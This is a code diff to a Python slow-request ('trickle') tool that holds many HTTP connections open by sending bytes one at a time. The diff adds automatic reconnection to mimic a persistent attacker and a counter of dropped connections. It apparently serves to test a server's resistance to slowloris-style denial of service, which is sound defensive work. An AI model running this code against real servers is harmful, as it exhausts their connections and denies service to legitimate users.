@@ -46,6 +46,7 @@ def _request_bytes(kind: str, host: str, cookie: str | None) -> tuple[bytes, byt
 
 @dataclass
 class _Conn:
+    kind: str
     sock: socket.socket
     pending: bytes  # what is left to trickle
     closed_by_server: bool = False
@@ -60,7 +61,9 @@ class Trickle:
     count: int
     cookie: str | None = None  # "session=..." for the upload kinds
     interval_s: float = 1.0
+    reconnect: bool = False  # replace a dropped connection at once (a persistent attacker)
     conns: list[_Conn] = field(default_factory=list)
+    dropped: int = 0  # connections the server closed
 
     def __post_init__(self):
         self._stop = threading.Event()
@@ -68,42 +71,50 @@ class Trickle:
 
     def start(self) -> "Trickle":
         raise_fd_limit(self.count + 256)
-        for i in range(self.count):
-            kind = KINDS[i % len(KINDS)]
-            headers, body = _request_bytes(kind, f"{self.host}:{self.port}", self.cookie)
-            sock = socket.create_connection((self.host, self.port), timeout=10)
-            # Headers kinds: everything a byte at a time. Body kinds: headers at once, then the body.
-            first, rest = (b"", headers + body) if kind.endswith("headers") else (headers, body)
-            sock.sendall(first + rest[:1])
-            sock.setblocking(False)
-            self.conns.append(_Conn(sock, rest[1:]))
+        self.conns = [self._open(KINDS[i % len(KINDS)]) for i in range(self.count)]
         self._thread.start()
         return self
 
+    def _open(self, kind: str) -> _Conn:
+        headers, body = _request_bytes(kind, f"{self.host}:{self.port}", self.cookie)
+        sock = socket.create_connection((self.host, self.port), timeout=10)
+        # Headers kinds: everything a byte at a time. Body kinds: headers at once, then the body.
+        first, rest = (b"", headers + body) if kind.endswith("headers") else (headers, body)
+        sock.sendall(first + rest[:1])
+        sock.setblocking(False)
+        return _Conn(kind, sock, rest[1:])
+
+    def _closed(self, i: int) -> None:
+        self.dropped += 1
+        self.conns[i].sock.close()
+        if self.reconnect:
+            try:
+                self.conns[i] = self._open(self.conns[i].kind)
+                return
+            except OSError:
+                pass
+        self.conns[i].closed_by_server = True
+
     def _run(self) -> None:
         while not self._stop.wait(self.interval_s):
-            for conn in self.conns:
+            for i, conn in enumerate(self.conns):
                 if conn.closed_by_server:
                     continue
                 try:
                     if conn.sock.recv(65536, socket.MSG_PEEK) == b"":
-                        conn.closed_by_server = True
+                        self._closed(i)
                         continue
                 except BlockingIOError:
                     pass  # nothing from the server: still waiting for us, as intended
                 except OSError:
-                    conn.closed_by_server = True
+                    self._closed(i)
                     continue
                 if conn.pending:
                     try:
                         conn.sock.send(conn.pending[:1])
                         conn.pending = conn.pending[1:]
                     except OSError:
-                        conn.closed_by_server = True
-
-    @property
-    def dropped(self) -> int:
-        return sum(conn.closed_by_server for conn in self.conns)
+                        self._closed(i)
 
     def stop(self) -> None:
         self._stop.set()
